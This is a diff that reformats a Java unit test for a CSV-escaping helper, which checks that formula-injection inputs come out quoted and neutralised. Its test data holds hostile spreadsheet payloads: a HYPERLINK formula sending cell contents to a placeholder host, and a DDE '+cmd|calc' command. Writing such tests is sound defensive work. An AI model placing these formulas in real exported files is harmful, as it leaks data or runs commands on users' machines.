@@ -12,7 +12,11 @@ class CsvCellsTest {
 
   /** The OWASP payloads, each as it must come out: a leading quote mark, the whole cell quoted. */
   @ParameterizedTest(name = "{0}")
-  @CsvSource(delimiterString = " -> ", quoteCharacter = '~', textBlock = """
+  @CsvSource(
+      delimiterString = " -> ",
+      quoteCharacter = '~',
+      textBlock =
+          """
       =HYPERLINK("http://x"&A1,"click") -> "'=HYPERLINK(""http://x""&A1,""click"")"
       +cmd|calc!A0 -> "'+cmd|calc!A0"
       @SUM(1+1) -> "'@SUM(1+1)"
@@ -44,7 +48,10 @@ class CsvCellsTest {
   @Test
   void figuresWeWorkedOutStayNumbersAndNothingElseGetsThrough() {
     assertEquals("93.5", CsvCells.number("93.5"));
-    assertEquals("-2", CsvCells.number("-2"), "a negative figure is a number to a spreadsheet, not a formula");
+    assertEquals(
+        "-2",
+        CsvCells.number("-2"),
+        "a negative figure is a number to a spreadsheet, not a formula");
     assertEquals("12", CsvCells.number(12));
     assertEquals("2025-09-08", CsvCells.date(java.time.LocalDate.of(2025, 9, 8)));
     assertEquals("", CsvCells.date(null));
